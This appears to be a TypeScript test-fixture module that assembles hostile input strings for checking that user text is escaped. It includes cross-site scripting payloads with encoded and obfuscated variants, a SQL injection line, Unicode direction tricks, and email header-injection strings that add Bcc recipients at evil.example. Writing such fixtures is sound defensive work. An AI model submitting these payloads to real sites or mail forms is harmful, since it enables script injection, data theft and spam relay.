/** Ways out of wherever words stand: text, attributes, text areas, styles, comments, and other languages' strings. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  '</textarea>',
  '</title></style>',
  '--></p></body>',
  '</script>',
  ']]>',
] as const;

/** What would then be there. Each is one line, with at least one letter. */
const WHAT_COMES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<form action=//evil.example><input name=proof>',
  '<base href=//evil.example/><meta http-equiv=refresh content=0>',
  'autofocus onfocus=alert(1) x=',
] as const;

/** Words that were other things in other forms: entities, templates, HTML of old programs, other alphabets. */
const OTHERS = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<img src=x onerror=alert(1)//',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example"</style><link rel=stylesheet href=//evil.example>',
  '{{seat}} {{{name}}} #{alert(1)} <%= alert(1) %>',
  '[x](javascript:alert(1)) ![x](//evil.example/x.png) `<b>`',
  '@[<img src=x onerror=alert(1)>](member:nobody)',
  'javascript:alert(1)//"onclick="alert(1)',
  "x' or '1'='1'; drop table comment; --",
  '\u202e>tpircs<\u202d <b>x</b> \u0000<script>x</script>',
] as const;

/** Words that people could write anywhere, and that must stay words: some of them at a time. */
export const HOSTILE_WORDS: readonly string[] = [
  ...WAYS_OUT.map((out) => WHAT_COMES.map((comes) => `${out}${comes}`).join(' ')),
  ...[0, 6, 12].map((from) => OTHERS.slice(from, from + 6).join(' ')),
];

/** Words that would be more lines of a mail's head, or other people to go to. */
const HEADS: readonly string[] = [
  'one\r\nBcc: everyone@evil.example\r\n\r\ntwo',
  'one\nBcc: everyone@evil.example',
  'one\rContent-Type: text/html',
  '=?utf-8?q?=0D=0ABcc:_everyone@evil.example?=',
  '=?utf-8?b?DQpCY2M6IGV2ZXJ5b25lQGV2aWwuZXhhbXBsZQ==?=',
  'one\u2028Bcc: everyone@evil.example\u0085Bcc: x@evil.example',
  'one\u000b\u000cBcc: everyone@evil.example',
  '"; everyone@evil.example, <x@evil.example>',
];

/** The same for mails. */
export const HOSTILE_HEADS: readonly string[] = [HEADS.join(' and '), [...HEADS].reverse().join(' and ')];
